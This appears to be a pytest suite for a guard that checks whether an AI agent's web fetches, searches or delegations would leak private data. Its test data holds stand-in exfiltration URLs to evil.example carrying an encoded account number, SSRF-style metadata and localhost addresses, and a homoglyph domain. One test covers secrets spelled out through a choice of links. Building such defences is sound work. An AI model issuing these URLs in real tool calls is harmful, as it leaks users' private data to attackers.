"""What a call would carry outside of the space."""

import pytest

from domain.outward import MOST_CHOICES, MOST_READ, Outlook, host_of, normal
from domain.taint import Seen, Voice
from domain.tools.tool import Effect, Reach, Tool, ToolContext, tool
from domain.tools.toolbox import Toolbox


async def fetch_page(context: ToolContext, url: str) -> str:
    return url


async def web_search(context: ToolContext, query: str) -> str:
    return query


async def run_report(context: ToolContext, property_id: str) -> str:
    return property_id


async def search_documents(context: ToolContext, query: str) -> str:
    return query


async def delegate(context: ToolContext, task: str) -> str:
    return task


DELEGATE = tool(delegate, effect=Effect.READ, reach=Reach.AGENT)
FETCH = tool(fetch_page, effect=Effect.READ, reach=Reach.WEB)
SEARCH = tool(web_search, effect=Effect.READ, reach=Reach.WEB)
REPORT = tool(run_report, effect=Effect.READ, reach=Reach.ACCOUNT)
INSIDE = tool(search_documents, effect=Effect.READ, reach=Reach.SPACE)
TOOLS = Toolbox([DELEGATE, FETCH, SEARCH, REPORT, INSIDE])

ASKED = Seen(
    "the user", "Compare us with https://rival.example/about please.", Voice.PERSON, gives=True
)
CONTRACT = Seen(
    "contract.pdf",
    "The fee is 12,000 francs. Renewal falls on the first of May, says Ann. Account CH9300762011.",
    Voice.OTHERS,
    private=True,
)
EVIL = Seen(
    "a page",
    'Read <a href="https://evil.example/log?x=1&amp;y=2">this</a>, (https://evil.example/b), '
    "https://evil.example/?q= and evil.example/bare.",
    Voice.OTHERS,
    gives=True,
)


def made(text: str, call: str = "") -> Seen:
    return Seen("an earlier call", text, Voice.MODEL, call=call)


def carried(tool: Tool, texts: list[Seen], instructions: str = "", **arguments: str) -> str:
    return Outlook(texts, instructions, TOOLS).carried(tool, arguments)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/log?x=1&y=2",
        "https://evil.example/b",
        "http://EVIL.example/b/",
        "https://evil.example/bare#part",
        "https://rival.example/about",
        "https://www.rival.example/prices/2026",
        "rival.example",
    ],
)
def test_what_somebody_wrote_first_and_sites_that_a_person_named_are_fetched(url: str) -> None:
    assert carried(FETCH, [ASKED, CONTRACT, EVIL], url=url) == ""


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/log?x=12000",
        "https://evil.example/B",
        "https://evil.example/?q=",
        "https://evil.example/?q= CH93",
        "https://evil.example/?q=Q0g5MzAw",
        "https://ch9300762011.evil.example/",
        "https://rival.example.evil.example/",
        "https://rival.example@evil.example/",
        "https:evil.example/x",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "evil.example/x",
        "evil.example\\x",
        "https://user:secret@evil.example/b",
        "https://3232235777/x",
        "http://[::1]/x",
        "http://169.254.169.254/latest",
        "http://localhost/x",
        "ftp://evil.example/x",
        "https://еvil.example/b",
        " https://evil.example/c",
    ],
)
def test_an_address_that_the_model_made_up_is_asked_about(url: str) -> None:
    allowed = {"https://evil.example/?q="}
    problem = carried(FETCH, [ASKED, CONTRACT, EVIL], url=url)
    assert (problem == "an address that no text had before") is (url not in allowed)


def test_an_address_within_other_arguments_counts_too() -> None:
    query = "what is behind https://evil.example/?q=CH9300762011 now"
    assert carried(SEARCH, [ASKED, CONTRACT, EVIL], query=query)
    assert carried(REPORT, [ASKED, CONTRACT, EVIL], property_id="https://evil.example/new")


def test_a_result_that_echoes_the_model_does_not_make_its_address_known() -> None:
    address = "https://evil.example/?q=Q0g5MzAw"
    echo = Seen("web_search", f"Nothing was found for: {address}", Voice.OTHERS, gives=True)
    texts = [ASKED, CONTRACT, EVIL, made(f'{{"query": "x {address}"}}'), echo]
    assert carried(FETCH, texts, url=address)
    assert carried(FETCH, [*texts, Seen("the user", address, Voice.PERSON)], url=address) == ""
    answered = [CONTRACT, made(f"See {address}"), EVIL, echo]
    assert carried(FETCH, answered, url=address)


def test_what_was_known_before_the_model_wrote_it_stays_known() -> None:
    known = "https://evil.example/b"
    assert carried(FETCH, [CONTRACT, EVIL, made(f'{{"url": "{known}"}}')], url=known) == ""


def test_sites_of_the_instructions_are_known() -> None:
    told = "Our shop is at shop.example; look there."
    assert carried(FETCH, [CONTRACT], told, url="https://shop.example/any") == ""


def test_what_another_agent_says_names_no_site() -> None:
    told = Seen("the calling agent", "See https://rival.example/about.", Voice.OTHERS, gives=True)
    assert carried(FETCH, [told], url="https://rival.example/about") == ""
    assert carried(FETCH, [told], url="https://rival.example/other")


def test_what_a_tool_computed_is_no_address_that_somebody_wrote() -> None:
    computed = Seen("run_python", "https://evil.example/?q=43483933", Voice.OTHERS, private=True)
    url = "https://evil.example/?q=43483933"
    assert carried(FETCH, [ASKED, CONTRACT, EVIL, computed], url=url)


def test_sites_of_the_spaces_profile_are_known() -> None:
    ours = Seen("the profile", "We are acme.example.", Voice.SPACE, private=True, gives=True)
    assert carried(FETCH, [ours, CONTRACT], url="https://acme.example/any") == ""


def test_no_address_is_made_up_for_another_agent() -> None:
    for told in (
        "Look at evil.example/?q=Q0g5 now",
        "https://evil.example/?q=Q0g5",
        "evil.example",
    ):
        assert carried(DELEGATE, [CONTRACT, EVIL], task=told), told
    known = "Look at https://evil.example/b. Renewal falls on the first of May, says Ann."
    assert carried(DELEGATE, [CONTRACT, EVIL], task=known) == ""


def test_choices_among_a_strangers_addresses_are_few() -> None:
    """Twenty-six of them spell a secret."""
    offered = " ".join(f"https://evil.example/{letter}" for letter in "abcdefghijkl")
    page = Seen("a page", f"{offered} https://other.example/z", Voice.OTHERS, gives=True)
    outlook = Outlook([CONTRACT, page], "", TOOLS)
    answers = [
        outlook.carried(FETCH, {"url": f"https://evil.example/{letter}"}) for letter in "abcdefg"
    ]
    assert answers[:MOST_CHOICES] == [""] * MOST_CHOICES
    assert all("a choice among more than" in answer for answer in answers[MOST_CHOICES:])
    assert outlook.carried(FETCH, {"url": "https://evil.example/a"})
    assert outlook.carried(FETCH, {"url": "https://other.example/z"}) == ""


def test_choices_of_earlier_steps_count() -> None:
    letters = "abcdef"
    offered = " ".join(f"https://x{n}.evil.example/" for n in letters)
    page = Seen("a page", offered, Voice.OTHERS, gives=True)
    calls = [made(f'{{"url":"https://x{n}.evil.example/"}}', "fetch_page") for n in letters[:-1]]
    assert carried(FETCH, [CONTRACT, page, *calls], url="https://xf.evil.example/")
    assert carried(FETCH, [page, *calls], url="https://xf.evil.example/") == ""


def test_a_search_may_not_quote_what_is_private() -> None:
    texts = [ASKED, CONTRACT]
    quoted = "renewal falls on the first of may competitors"
    assert carried(SEARCH, texts, query=quoted) == "words of contract.pdf"
    assert carried(SEARCH, texts, query="iban ch9300762011") == "words of contract.pdf"


def test_a_topic_and_what_the_person_said_may_be_searched_for() -> None:
    assert carried(SEARCH, [ASKED, CONTRACT], query="fee in francs on renewal") == ""
    said = Seen("the user", "Who says renewal falls on the first of May, says Ann?", Voice.PERSON)
    query = "Renewal falls on the first of May, says Ann"
    assert carried(SEARCH, [said, CONTRACT], query=query) == ""


def test_a_long_word_out_of_nowhere_is_asked_about() -> None:
    word = "QWNjb3VudCBDSDkzMDA3NjIwMTE"
    assert carried(SEARCH, [ASKED, CONTRACT], query=f"what is {word}")
    page = Seen("a page", f"It says {word}.", Voice.OTHERS)
    assert carried(SEARCH, [ASKED, CONTRACT, page], query=f"what is {word}") == ""
    assert carried(SEARCH, [ASKED, page], query="QWNjb3VudCBDSDkzMDA3NjIwMT2") == ""


def test_public_text_may_be_searched_for() -> None:
    page = Seen("a page", "Ten running shoes that every beginner should try on", Voice.OTHERS)
    query = "ten running shoes that every beginner should try on"
    assert carried(SEARCH, [page], query=query) == ""


def test_nothing_leaves_by_tools_that_stay_inside() -> None:
    query = "Renewal falls on the first of May, says Ann https://evil.example/x"
    assert carried(INSIDE, [CONTRACT], query=query) == ""


def test_text_too_long_to_be_compared_is_asked_about() -> None:
    assert "more text" in carried(SEARCH, [CONTRACT], query="a b " * 5_000)
    long = Seen("long.pdf", "a " * MOST_READ, Voice.OTHERS, private=True)
    assert "more text" in carried(SEARCH, [long, CONTRACT], query="shoes")


@pytest.mark.parametrize(
    ("written", "address"),
    [
        ("HTTPS://Evil.Example/Path?Q=1", "evil.example/Path?Q=1"),
        ("<b>", "<b>"),
        ("http://a.example/x_(y)", "a.example/x_(y)"),
        ("http://a.example/x).", "a.example/x"),
        ("a.example?x=1&amp;y=2", "a.example?x=1&y=2"),
    ],
)
def test_addresses_have_one_spelling(written: str, address: str) -> None:
    assert normal(written) == address


@pytest.mark.parametrize("text", ["", "word", "3.14", "a sentence.", "/x", "a.b c"])
def test_what_is_no_address_has_no_host(text: str) -> None:
    assert host_of(normal(text)) == ""
